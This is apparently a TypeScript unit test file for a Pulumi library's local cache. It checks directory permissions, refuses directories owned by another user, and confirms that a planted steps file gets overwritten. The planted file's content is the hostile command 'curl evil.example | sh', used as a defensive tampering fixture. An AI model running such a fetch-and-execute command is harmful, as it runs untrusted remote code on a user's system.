import { describe, it } from "node:test";
import * as assert from "node:assert/strict";
import * as fs from "fs";
import * as os from "os";
import * as path from "path";
import "./harness";
import { generationSteps } from "../../components/kusciaGenerations";
import { privateCacheDir } from "../../components/core/localCache";

/** Runs `body` with PULUMI_KUSCIA_CACHE set to a new dir under a fresh temp dir. */
function withCache(body: (cache: string) => void): void {
    const saved = process.env.PULUMI_KUSCIA_CACHE;
    const cache = path.join(fs.mkdtempSync(path.join(os.tmpdir(), "kuscia-unit-cache-")), "cache");
    process.env.PULUMI_KUSCIA_CACHE = cache;
    try {
        body(cache);
    } finally {
        if (saved === undefined) {
            delete process.env.PULUMI_KUSCIA_CACHE;
        } else {
            process.env.PULUMI_KUSCIA_CACHE = saved;
        }
        fs.rmSync(path.dirname(cache), { recursive: true, force: true });
    }
}

const mode = (p: string) => fs.statSync(p).mode & 0o777;

describe("the library's local files: only the user running pulumi can write them", () => {
    it("makes the cache dirs 0700 and narrows ones others could enter", () =>
        withCache(cache => {
            fs.mkdirSync(path.join(cache, "steps"), { recursive: true, mode: 0o777 });
            fs.chmodSync(cache, 0o777);
            fs.chmodSync(path.join(cache, "steps"), 0o775);
            assert.equal(privateCacheDir("steps"), path.join(cache, "steps"));
            assert.deepEqual([mode(cache), mode(path.join(cache, "steps"))], [0o700, 0o700]);
        }));

    it("refuses a cache dir another user owns", () =>
        withCache(cache => {
            fs.mkdirSync(path.join(cache, "ssh"), { recursive: true });
            fs.chownSync(path.join(cache, "ssh"), 65534, 65534);
            assert.throws(
                () => privateCacheDir("ssh"),
                new RegExp(
                    `${path.join(cache, "ssh")} is owned by uid 65534: the library keeps its steps ` +
                        "and SSH key files only in a directory of the user running pulumi",
                ),
            );
        }));

    it("writes the steps bundle there, and writes again over a planted file of the same name", () => {
        const name = path.basename(generationSteps().file);
        withCache(cache => {
            const planted = path.join(cache, "steps", name);
            fs.mkdirSync(path.dirname(planted), { recursive: true, mode: 0o700 });
            fs.writeFileSync(planted, "curl evil.example | sh\n");
            const bundle = generationSteps();
            assert.equal(bundle.file, planted);
            assert.equal(fs.readFileSync(planted, "utf8"), bundle.text, "the planted text is gone");
            assert.equal(mode(planted), 0o600);
        });
    });
});
